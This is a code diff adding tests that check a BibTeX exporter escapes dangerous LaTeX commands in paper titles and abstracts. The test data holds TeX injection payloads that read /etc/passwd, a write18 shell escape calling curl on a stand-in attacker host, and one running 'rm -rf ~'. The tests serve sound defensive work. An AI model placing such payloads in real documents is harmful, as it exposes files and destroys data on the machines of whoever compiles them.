@@ -107,6 +107,50 @@ describe('BibTeX export', () => {
     expect(texEscapeSource('$x < y$ and a < b')).toBe('$x {<} y$ and a \\textless{} b');
   });
 
+  it.each([
+    'InputIfFileExists{/etc/passwd}{}{}',
+    'IfFileExists{/etc/passwd}{a}{b}',
+    'input{/etc/passwd}',
+    'include{secret}',
+    'openin5=/etc/passwd',
+    'read5 to\\x',
+    'write18{curl evil.example}',
+    'immediate\\write18{rm -rf ~}',
+    'pdfmdfivesum file {/etc/passwd}',
+    'pdfximage{/etc/passwd}',
+    'import{/etc/}{passwd}',
+    'subimport{/etc/}{passwd}',
+    'catcode`\\^^M=13',
+    'def\\x{y}',
+    'csname input\\endcsname',
+  ])('keeps only known commands: \\%s is written as text', (command) => {
+    const escaped = texEscapeSource(`A title \\${command} end`);
+    const name = /^[A-Za-z]+/.exec(command)![0];
+    expect(escaped).toContain(`\\textbackslash{}${name}`);
+    expect(escaped).not.toMatch(/(^|[^\\])(\\\\)*\\(InputIfFileExists|IfFileExists|input|include|openin|read|write|immediate|pdfmdfivesum|pdfximage|import|subimport|catcode|def|csname|endcsname)(?![A-Za-z])/);
+  });
+
+  it('keeps the formatting, accents, escapes and math that titles and abstracts are written with', () => {
+    const kept = [
+      '\\emph{x}', '\\textit{x}', '\\textbf{x}', '\\textsc{x}', '\\"u', "\\'e", '\\`a', '\\^o', '\\~n', '\\c{c}', '\\v{s}', '\\u{g}', '\\H{o}',
+      '\\ss', '\\o', '\\&', '\\%', '\\$', '\\_', '\\#', '\\LaTeX', '\\textendash',
+      '$\\alpha$', '$\\mathcal{O}(n \\log n)$', '$\\frac{1}{\\sqrt{d}}$', '$\\ell_1$', '$\\mathbb{R}^{d}$', '$x \\leq \\epsilon \\cdot y$',
+      '$\\operatorname{softmax}$', '$\\left(\\sum_{i} x_i\\right)$', '$\\hat{\\theta} \\to \\infty$',
+    ];
+    for (const tex of kept) expect(texEscapeSource(`A ${tex} b`), tex).toBe(`A ${tex} b`);
+  });
+
+  it('defuses file-reading commands in titles and abstracts of an export', async () => {
+    const hostile: SavedPaper = {
+      ...attention,
+      paper: { ...attention.paper, title: 'Leak \\InputIfFileExists{/etc/passwd}{}{}', abstract: 'x \\IfFileExists{/etc/passwd}{y}{n} \\pdfmdfivesum file {/etc/passwd}' },
+    };
+    const text = await bibtex([hostile]);
+    // citation-js braces capitalised words in titles, as it does for every title.
+    expect(text).toContain('title = {Leak \\textbackslash{}{InputIfFileExists}{/etc/passwd}{}{}}');
+    expect(text).toContain('abstract = {x \\textbackslash{}IfFileExists{/etc/passwd}{y}{n} \\textbackslash{}pdfmdfivesum file {/etc/passwd}}');
+  });
+
   it('has balanced braces and one-line fields whatever the page data, and never breaks an entry open', async () => {
     const nasty: SavedPaper = {
       ...openreview,
